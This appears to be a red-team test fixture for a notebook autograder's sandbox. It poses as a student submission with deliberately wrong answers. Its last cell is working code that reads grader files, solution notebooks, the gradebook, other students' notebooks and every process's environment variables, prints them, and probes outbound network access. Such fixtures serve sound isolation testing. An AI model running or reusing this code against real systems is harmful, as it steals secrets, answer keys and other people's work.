# Attack: read what the grading user can read (the grader modules, the source notebook with the
# solutions, the gradebook with the hidden tests, other students' notebooks) by walking up from
# the working directory and following paths in the environment, print it into the notebook,
# and try to send it out over the network.
# no-better-than: attack-baseline-wrong
# expect: q1_ema_tests=less
# expect: q1_formulas_tests=less
# %% q1_ema
def ema(g, beta):
    m = torch.zeros((g.shape[0] + 1, *g.shape[1:]), dtype=g.dtype)
    for step in range(g.shape[0]):
        m[step + 1] = (1 - beta) * m[step] + beta * g[step]
    return m
# %% q1_formulas
mean_mk = mu
var_mk = sigma**2 * (1 - beta) / (1 + beta) * (1 - beta**(2 * k))
var_limit = sigma**2
# %% extra
import glob, os, socket
_roots = {os.path.abspath(os.path.join(os.getcwd(), *[".."] * up)) for up in range(6)}
_roots |= {os.path.dirname(p) for value in os.environ.values() for p in value.split(":") if p.startswith("/")}
_roots |= {"/work", "/root", "/home", "/srv", "/opt"}
_stolen = {}
for _root in sorted(_roots):
    for _pattern in ["gradebook.db", "graders/*.py", "graders/*/*.py", "source/*/*.ipynb", "*/graders/*.py",
                     "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "*/*/*.ipynb", "*/*/*/*.ipynb"]:
        for _path in glob.glob(os.path.join(_root, _pattern)):
            if os.path.realpath(os.path.dirname(_path)) == os.getcwd():
                continue
            try:
                with open(_path, "rb") as _handle:
                    _stolen[_path] = _handle.read().decode("utf-8", "replace")
            except OSError:
                pass
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        try:
            _stolen[f"/proc/{_pid}/environ"] = open(f"/proc/{_pid}/environ", "rb").read().decode("utf-8", "replace")
            _stolen[f"/proc/{_pid}/cwd"] = os.listdir(f"/proc/{_pid}/cwd")
        except OSError:
            pass
for _path, _text in _stolen.items():
    print("=====", _path)
    print(_text)
_sent = []
for _address in [("pypi.org", 443), ("1.1.1.1", 53), ("10.0.0.1", 80)]:
    try:
        socket.create_connection(_address, timeout=3).close()
        _sent.append(_address)
    except OSError:
        pass
print("network reachable:", _sent)
